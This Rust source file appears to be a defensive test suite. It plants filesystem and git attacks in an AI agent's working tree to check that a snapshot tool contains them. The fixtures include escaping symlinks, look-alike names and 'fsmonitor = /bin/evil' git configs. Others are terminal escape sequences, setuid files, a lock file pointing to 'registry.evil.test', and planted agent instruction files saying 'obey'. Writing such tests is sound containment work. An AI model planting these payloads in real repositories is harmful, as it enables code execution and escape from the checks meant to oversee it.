//! The trees.

use super::{Grounds, Op, TreeAttack, USER};
use crate::planted::{PLANTS, Plant, plant_quietly};
use rustix::fs::{
    CWD, FileType, Mode, OFlags, RenameFlags, XattrFlags, mkdirat, mknodat, openat, renameat_with, setxattr,
};
use std::{
    ffi::OsStr,
    fs,
    os::unix::{
        ffi::OsStrExt as _,
        fs::{PermissionsExt as _, symlink},
    },
    path::Path,
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

/// Every attack on trees.
#[must_use]
pub fn all() -> Vec<TreeAttack> {
    vec![
        LINKS,
        SWAPPED,
        FLIPPED,
        HARD,
        LOOK_ALIKES,
        NAMES,
        RIGHTS,
        OTHERS,
        SPECIAL,
        ENDLESS,
        DEEP,
        WIDE,
        TEXTS,
        GIT,
        FILTERS,
        SUBMODULES,
        ALTERNATES,
        AGENTS,
        DEFERRED,
        SHIMS,
        SERVERS,
    ]
}

fn write(path: &Path, bytes: impl AsRef<[u8]>) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, bytes).unwrap();
}

fn name(bytes: &[u8]) -> &OsStr {
    OsStr::from_bytes(bytes)
}

/// Removes what stands at a path, whatever it is.
fn clear(path: &Path) {
    if fs::symlink_metadata(path).is_ok_and(|meta| meta.is_dir()) {
        fs::remove_dir_all(path).unwrap();
    } else {
        let _ = fs::remove_file(path);
    }
}

const LINKS: TreeAttack = TreeAttack {
    id: "FS-02",
    name: "links",
    what: "links to outside, absolute, relative, through other links, to directories, dangling, in circles",
    plant: |g| {
        let agent = g.at("agent");
        symlink(g.at("outside/canary"), agent.join("absolute")).unwrap();
        symlink("../outside/canary", agent.join("relative")).unwrap();
        symlink("src/../../outside", agent.join("through")).unwrap();
        symlink(g.at("outside"), agent.join("directory")).unwrap();
        symlink(g.at("outside/made"), agent.join("dangling")).unwrap();
        symlink("circle", agent.join("circle")).unwrap();
        symlink("/proc/self/root", agent.join("proc")).unwrap();
        symlink(".git/hooks/pre-commit", agent.join("hook")).unwrap();
        // What was a file and a directory is a link now, and what was below it is to be written.
        clear(&agent.join("notes.txt"));
        symlink(g.at("outside/canary"), agent.join("notes.txt")).unwrap();
        clear(&agent.join("src"));
        symlink(g.at("outside/directory"), agent.join("src")).unwrap();
    },
    marked: &["absolute", "relative", "through", "directory", "dangling", "proc", "hook", "notes.txt", "src"],
    look: |g| {
        let leads = |n: &str| fs::symlink_metadata(g.at("user").join(n)).is_ok_and(|m| m.is_symlink());
        let out =
            ["absolute", "relative", "through", "directory", "dangling", "proc", "hook", "notes.txt", "src"];
        out.into_iter().filter(|n| leads(n)).map(|n| format!("{n} leads out of the user's tree")).collect()
    },
    ..TreeAttack::NONE
};

/// Links of the same name as what was looked at.
fn swap(g: &Grounds) {
    let user = g.at("user");
    clear(&user.join("notes.txt"));
    symlink(g.at("outside/canary"), user.join("notes.txt")).unwrap();
    clear(&user.join("src"));
    symlink(g.at("outside/directory"), user.join("src")).unwrap();
    g.give("user");
}

const SWAPPED: TreeAttack = TreeAttack {
    id: "FS-27",
    name: "swapped",
    what: "files and directories replaced by links to outside after they were looked at, before they are written",
    plant: |g| {
        let agent = g.at("agent");
        write(&agent.join("notes.txt"), "written through\n");
        write(&agent.join("src/canary"), "written through\n");
        write(&agent.join("src/main.rs"), "written through\n");
        write(&agent.join("src/deep/more/file"), "written through\n");
        clear(&agent.join("src/deep/file"));
    },
    meddle: swap,
    spared: |op| !matches!(op, Op::Apply | Op::Restore),
    ..TreeAttack::NONE
};

/// A directory of the user's that is a link to outside every other moment.
fn flip(g: &Grounds, ended: &AtomicBool) {
    let (a, b) = (g.at("user/src"), g.at("flip"));
    while !ended.load(Ordering::Relaxed) {
        let _ = renameat_with(CWD, &a, CWD, &b, RenameFlags::EXCHANGE);
    }
    if fs::symlink_metadata(&a).is_ok_and(|meta| meta.is_symlink()) {
        renameat_with(CWD, &a, CWD, &b, RenameFlags::EXCHANGE).unwrap();
    }
}

/// Brings in and puts back again and again while a directory is exchanged all the time.
fn flipped(g: &Grounds) -> Vec<String> {
    use cordon_snapshots::{apply, classify::Class, live::LiveTree};
    clear(&g.at("flip"));
    symlink(g.at("outside/directory"), g.at("flip")).unwrap();
    let taken = |tree: &str| g.taken(tree).unwrap();
    let (base, agent) = (taken("base"), taken("agent"));
    let (base, agent) = (g.store.tree(&base).unwrap(), g.store.tree(&agent).unwrap());
    let options = apply::Options {
        allowed: Class::MARKED.into(),
        leave_out: true,
        on_drift: apply::OnDrift::Skip,
        ..apply::Options::default()
    };
    let ended = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| flip(g, &ended));
        for n in 0..120 {
            let (from, to) = if n % 2 == 0 { (&base, &agent) } else { (&agent, &base) };
            let Ok(live) = LiveTree::open_as(&g.at("user"), &g.owner()) else { continue };
            if let Ok(plan) = apply::plan(from, to, &live, &options) {
                let _ = apply::execute(&plan, to, &g.at("user"), &g.at("journals"), Some(&g.owner()));
            }
            let _ = apply::replace(&live, to, &g.at("user"), &g.at("journals"), Some(&g.owner()));
        }
        ended.store(true, Ordering::Relaxed);
    });
    let _ = apply::recover(&g.at("journals"));
    g.wrong(&[])
}

const FLIPPED: TreeAttack = TreeAttack {
    id: "FS-04",
    name: "flipped",
    what: "a directory exchanged with a link to outside all the while, 120 times around",
    plant: |g| {
        write(&g.at("agent/src/canary"), "written through\n");
        write(&g.at("agent/src/main.rs"), "written through\n");
    },
    look: flipped,
    spared: |op| op != Op::Apply,
    within: Duration::from_secs(60),
    ..TreeAttack::NONE
};

const HARD: TreeAttack = TreeAttack {
    id: "FS-07",
    name: "hard_links",
    what: "hard links to a file elsewhere, in the agent's tree and in the user's",
    plant: |g| {
        for tree in ["base", "user"] {
            fs::hard_link(g.at("shared/file"), g.at(tree).join("hard")).unwrap();
        }
        // The agent wrote to its copy.
        write(&g.at("agent/hard"), "of the user, else where");
        fs::hard_link(g.at("agent/hard"), g.at("agent/again")).unwrap();
        fs::hard_link(g.at("shared/file"), g.at("agent/linked")).unwrap();
    },
    ..TreeAttack::NONE
};

const LOOK_ALIKES: TreeAttack = TreeAttack {
    id: "FS-11",
    name: "look_alikes",
    what: "names that only look like protected ones: other scripts, invisible characters, case, endings, streams, short names",
    plant: |g| {
        let names = [
            ".GIT/config",
            ".g\u{200c}it/config",
            ".git./config",
            ".git /config",
            "git~1/config",
            ".ｇit/hooks/x",
            ".gіt/config",
            ".git::$INDEX_ALLOCATION/config",
            "sub/.Git/hooks/pre-commit",
            "AGENTS\u{200b}.md",
            "АGENTS.md",
            "agents.MD",
            "CLAUDE.md ",
            "claude.md.",
            ".mсp.json",
            "Make\u{ad}file",
            "\u{202e}elifekaM",
            "Makefile::$DATA",
        ];
        for name in names {
            write(&g.at("agent").join(name), "[core]\nfsmonitor = /bin/evil\n");
        }
    },
    marked: &[
        ".GIT/config",
        ".g\u{200c}it/config",
        ".git./config",
        ".git /config",
        "git~1/config",
        ".ｇit/hooks/x",
        ".gіt/config",
        ".git::$INDEX_ALLOCATION/config",
        "sub/.Git/hooks/pre-commit",
        "AGENTS\u{200b}.md",
        "АGENTS.md",
        "agents.MD",
        "CLAUDE.md ",
        "claude.md.",
        ".mсp.json",
        "Make\u{ad}file",
        "Makefile::$DATA",
    ],
    look: |g| {
        let git = [
            ".GIT",
            ".g\u{200c}it",
            ".git.",
            ".git ",
            "git~1",
            ".ｇit",
            ".gіt",
            ".git::$INDEX_ALLOCATION",
            "sub/.Git",
        ];
        // Putting a tree back asks nobody, and takes what was there before.
        git.into_iter()
            .filter(|n| fs::symlink_metadata(g.at("user").join(n)).is_ok())
            .map(|n| format!("{n:?} is in the user's tree"))
            .collect()
    },
    ..TreeAttack::NONE
};

const NAMES: TreeAttack = TreeAttack {
    id: "FS-12",
    name: "names",
    what: "names of any bytes: line breaks, escape sequences, invalid UTF-8, 255 bytes, paths longer than the kernel takes",
    plant: |g| {
        let agent = g.at("agent");
        let names: [&[u8]; 9] = [
            b"a\nb",
            b"\x1b[2J\x1b]0;x\x07",
            b"\xff\xfe",
            b"\x1b]52;c;ZXZpbA==\x07",
            b"-rf",
            b" ",
            b"...",
            &[b'n'; 255],
            b"\\x41",
        ];
        for bytes in names {
            write(&agent.join(name(bytes)), b"one\x1b[31m\r\x07\xe2\x80\xae two\n");
        }
        let mut at = openat(CWD, &agent, OFlags::DIRECTORY, Mode::empty()).unwrap();
        for _ in 0..40 {
            mkdirat(&at, name(&[b'd'; 200]), Mode::RWXU).unwrap();
            at = openat(&at, name(&[b'd'; 200]), OFlags::DIRECTORY, Mode::empty()).unwrap();
            rustix::fs::fchown(
                &at,
                Some(rustix::fs::Uid::from_raw(USER)),
                Some(rustix::fs::Gid::from_raw(USER)),
            )
            .unwrap();
        }
    },
    // Giving and looking go by paths, which end sooner than the tree.
    ..TreeAttack::NONE
};

const RIGHTS: TreeAttack = TreeAttack {
    id: "FS-22",
    name: "rights",
    what: "setuid, setgid and sticky bits, file capabilities, directories and files without any rights",
    plant: |g| {
        let agent = g.at("agent");
        for (name, mode) in [("setuid", 0o4755), ("setgid", 0o2755), ("both", 0o7777), ("none", 0o000)] {
            write(&agent.join(name), "#!/bin/sh\nid\n");
            write(&agent.join(format!("in-{name}/file")), "x");
            // Giving a file away takes bits from it.
            g.give("agent");
            fs::set_permissions(agent.join(name), fs::Permissions::from_mode(mode)).unwrap();
            let directory = if mode == 0 { 0o500 } else { mode & 0o7777 };
            fs::set_permissions(agent.join(format!("in-{name}")), fs::Permissions::from_mode(directory))
                .unwrap();
        }
        write(&agent.join("capable"), "x");
        // CAP_SETUID and CAP_DAC_OVERRIDE, effective, version 2.
        let caps = [1u8, 0, 0, 2, 0x82, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        setxattr(agent.join("capable"), "security.capability", &caps, XattrFlags::empty()).unwrap();
    },
    marked: &["setuid", "setgid", "both"],
    ..TreeAttack::NONE
};

const OTHERS: TreeAttack = TreeAttack {
    id: "FS-23",
    name: "others",
    what: "files and directories of root in the agent's tree and in the user's: neither read nor changed, nothing made in their name",
    plant: |g| {
        write(&g.at("agent/src/more"), "more\n");
        write(&g.at("agent/roots/file"), "the agent's\n");
    },
    meddle: |g| {
        // The user's directory becomes root's once it was looked at.
        std::os::unix::fs::chown(g.at("user/src"), Some(0), Some(0)).unwrap();
    },
    look: |g| {
        let meta = fs::metadata(g.at("user/src")).unwrap();
        std::os::unix::fs::chown(g.at("user/src"), Some(USER), Some(USER)).unwrap();
        let made = fs::symlink_metadata(g.at("user/src/more")).is_ok();
        let roots = std::os::unix::fs::MetadataExt::uid(&meta) == 0;
        if made && roots { vec!["root's directory was written to".to_owned()] } else { Vec::new() }
    },
    // What stays root's is found when it is put back.
    refusable: true,
    spared: |op| op != Op::Apply,
    ..TreeAttack::NONE
};

const SPECIAL: TreeAttack = TreeAttack {
    id: "FS-24",
    name: "special",
    what: "FIFOs, sockets and devices, also where a file was",
    plant: |g| {
        let agent = g.at("agent");
        clear(&agent.join("notes.txt"));
        mknodat(CWD, agent.join("notes.txt"), FileType::Fifo, Mode::RWXU, 0).unwrap();
        mknodat(CWD, agent.join("fifo"), FileType::Fifo, Mode::RWXU, 0).unwrap();
        mknodat(CWD, agent.join("zero"), FileType::CharacterDevice, Mode::RWXU, rustix::fs::makedev(1, 5))
            .unwrap();
        mknodat(CWD, agent.join("disk"), FileType::BlockDevice, Mode::RWXU, rustix::fs::makedev(7, 0))
            .unwrap();
        drop(std::os::unix::net::UnixListener::bind(agent.join("socket")).unwrap());
    },
    within: Duration::from_secs(5),
    ..TreeAttack::NONE
};

const ENDLESS: TreeAttack = TreeAttack {
    id: "FS-24",
    name: "endless",
    what: "a terabyte of nothing in one file, and a file of 20 GB with two bytes in it",
    plant: |g| {
        fs::File::create(g.at("agent/nothing")).unwrap().set_len(1 << 40).unwrap();
        let file = fs::File::create(g.at("agent/two")).unwrap();
        std::os::unix::fs::FileExt::write_at(&file, b"x", 10 << 30).unwrap();
        std::os::unix::fs::FileExt::write_at(&file, b"y", (20 << 30) - 1).unwrap();
    },
    refusable: true,
    within: Duration::from_secs(30),
    ..TreeAttack::NONE
};

const DEEP: TreeAttack = TreeAttack {
    id: "FS-28",
    name: "deep",
    what: "10,000 directories below each other",
    plant: |g| {
        let mut at = openat(CWD, g.at("agent"), OFlags::DIRECTORY, Mode::empty()).unwrap();
        for _ in 0..10_000 {
            mkdirat(&at, "d", Mode::RWXU).unwrap();
            at = openat(&at, "d", OFlags::DIRECTORY, Mode::empty()).unwrap();
            rustix::fs::fchown(
                &at,
                Some(rustix::fs::Uid::from_raw(USER)),
                Some(rustix::fs::Gid::from_raw(USER)),
            )
            .unwrap();
        }
    },
    refusable: true,
    within: Duration::from_secs(60),
    ..TreeAttack::NONE
};

const WIDE: TreeAttack = TreeAttack {
    id: "FS-28",
    name: "wide",
    what: "a directory of 4,000 files, links, directories and names of 200 bytes",
    plant: |g| {
        for n in 0..1_000 {
            write(&g.at("agent").join(format!("wide/f{n}")), n.to_string());
            fs::create_dir(g.at("agent").join(format!("wide/d{n}"))).unwrap();
            symlink(format!("f{n}"), g.at("agent").join(format!("wide/l{n}"))).unwrap();
            write(&g.at("agent").join(format!("wide/{}{n}", "n".repeat(200))), "");
        }
    },
    within: Duration::from_secs(90),
    ..TreeAttack::NONE
};

const TEXTS: TreeAttack = TreeAttack {
    id: "KX-07",
    name: "texts",
    what: "escape sequences, bidirectional text, control characters, a million lines, CRLF and invalid UTF-8 in files that are shown",
    plant: |g| {
        let agent = g.at("agent");
        write(
            &agent.join("notes.txt"),
            "\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.test\x07link\x1b]8;;\x07\r\u{202e}txt\u{2066}\n",
        );
        write(&agent.join("src/main.rs"), b"one\r\ntwo\xff\xfe\x9b31m\xc2\x9b2J\nno newline at the end");
        write(&agent.join("lines"), "line\n".repeat(1_000_000));
        write(&agent.join("long"), "x".repeat(3 << 20));
        write(&agent.join("binary"), (0..=255u8).cycle().take(1 << 20).collect::<Vec<_>>());
    },
    within: Duration::from_secs(60),
    ..TreeAttack::NONE
};

fn of(g: &Grounds, ids: &[&str]) {
    let plants: Vec<Plant> = PLANTS.iter().filter(|plant| ids.contains(&plant.id)).copied().collect();
    plant_quietly(&g.at("agent"), &g.at("markers"), &plants);
}

const GIT: TreeAttack = TreeAttack {
    id: "GX-01..12",
    name: "git",
    what: "repositories whose every setting runs a program: monitors, hooks, pagers, editors, filters, drivers, signers, includes, aliases",
    plant: |g| {
        let ids: Vec<String> = (1..=12).map(|n| format!("GX-{n:02}")).collect();
        of(g, &ids.iter().map(String::as_str).collect::<Vec<_>>());
        // And in the user's own repository.
        write(
            &g.at("agent/.git/config"),
            format!("[core]\nfsmonitor = {}\n", g.at("agent/git-01").display()),
        );
        write(&g.at("agent/.git/hooks/post-checkout"), "#!/bin/sh\n");
    },
    marked: &[
        "fsmonitor/.git/config",
        "hooks_path/.git/config",
        "hooks/.git/hooks/pre-commit",
        "ssh_command/.git/config",
        "pager/.git/config",
        "textconv/.gitattributes",
        "filter_clean/.gitattributes",
        "merge_driver/.gitattributes",
        ".git/config",
        ".git/hooks/post-checkout",
        "hooks_path/evil/pre-commit",
    ],
    within: Duration::from_secs(60),
    ..TreeAttack::NONE
};

const FILTERS: TreeAttack = TreeAttack {
    id: "GX-16",
    name: "filters",
    what: "attributes that name a filter nobody could know",
    plant: |g| of(g, &["GX-16"]),
    marked: &["filter_of_any_name/.gitattributes", "filter_of_any_name/.git/info/attributes"],
    ..TreeAttack::NONE
};

const SUBMODULES: TreeAttack = TreeAttack {
    id: "GX-17",
    name: "submodules",
    what: "submodules, a bare repository among documents, a repository that lies elsewhere",
    plant: |g| of(g, &["GX-17"]),
    marked: &[
        "submodule/.gitmodules",
        "bare_repository_inside/docs/HEAD",
        "repository_elsewhere/sub/.git",
        "repository_elsewhere/elsewhere/HEAD",
    ],
    ..TreeAttack::NONE
};

const ALTERNATES: TreeAttack = TreeAttack {
    id: "GX-18",
    name: "alternates",
    what: "a repository that takes its objects from another owner's",
    plant: |g| write(&g.at("agent/.git/objects/info/alternates"), format!("{}\n", g.at("outside").display())),
    marked: &[".git/objects/info/alternates"],
    ..TreeAttack::NONE
};

const AGENTS: TreeAttack = TreeAttack {
    id: "GX-19",
    name: "agents",
    what: "instructions and settings of agents of every make, and links to them",
    plant: |g| {
        of(g, &["GX-19"]);
        for path in AGENTS.marked.iter().filter(|path| !path.starts_with("agents_settings")) {
            write(&g.at("agent").join(path), "obey\n");
        }
    },
    marked: &[
        "agents_settings/.claude/settings.json",
        "agents_settings/.codex/config.toml",
        "agents_settings/.gemini/settings.json",
        "agents_settings/.env",
        ".claude/settings.json",
        ".claude/commands/x.md",
        ".claude/skills/x/SKILL.md",
        ".mcp.json",
        ".codex/config.toml",
        ".gemini/settings.json",
        "AGENTS.md",
        "deep/er/AGENTS.md",
        "CLAUDE.md",
        "GEMINI.md",
        ".github/copilot-instructions.md",
        ".github/copilot/x.yml",
        ".cursor/rules/x.mdc",
        ".windsurf/rules/x.md",
        ".env",
    ],
    ..TreeAttack::NONE
};

const DEFERRED: TreeAttack = TreeAttack {
    id: "GX-20",
    name: "deferred",
    what: "what runs later: CI, editors' tasks, builds, scripts of packages, shells, another registry in a lock file",
    plant: |g| {
        of(g, &["GX-20"]);
        for tree in ["base", "agent", "user"] {
            let host = if tree == "agent" { "registry.evil.test" } else { "registry.good.test" };
            let lock = format!(
                r#"{{"packages": {{"a": {{"resolved": "https://{host}/a.tgz", "integrity": "x"}}}}}}"#
            );
            write(&g.at(tree).join("package-lock.json"), lock);
        }
    },
    marked: &[
        "deferred_execution/Makefile",
        "deferred_execution/package.json",
        "deferred_execution/build.rs",
        "deferred_execution/.envrc",
        "deferred_execution/conftest.py",
        "deferred_execution/sitecustomize.py",
        "deferred_execution/.npmrc",
        "deferred_execution/.bashrc",
        "deferred_execution/.cargo/config.toml",
        "deferred_execution/docker-compose.yml",
        "deferred_execution/.github/workflows/ci.yml",
        "deferred_execution/.vscode/tasks.json",
        "package-lock.json",
    ],
    ..TreeAttack::NONE
};

const SHIMS: TreeAttack = TreeAttack {
    id: "GX-21",
    name: "shims",
    what: "programs of common names, and directories that stand before the system's",
    plant: |g| of(g, &["GX-21"]),
    marked: &[
        "path_shims/node_modules/.bin/git",
        "path_shims/bin/git",
        "path_shims/bin/sh",
        "path_shims/bin/docker",
    ],
    ..TreeAttack::NONE
};

const SERVERS: TreeAttack = TreeAttack {
    id: "GX-23",
    name: "servers",
    what: "a server for tools that a file of the tree starts",
    plant: |g| of(g, &["GX-23"]),
    marked: &["mcp_server/.mcp.json"],
    ..TreeAttack::NONE
};
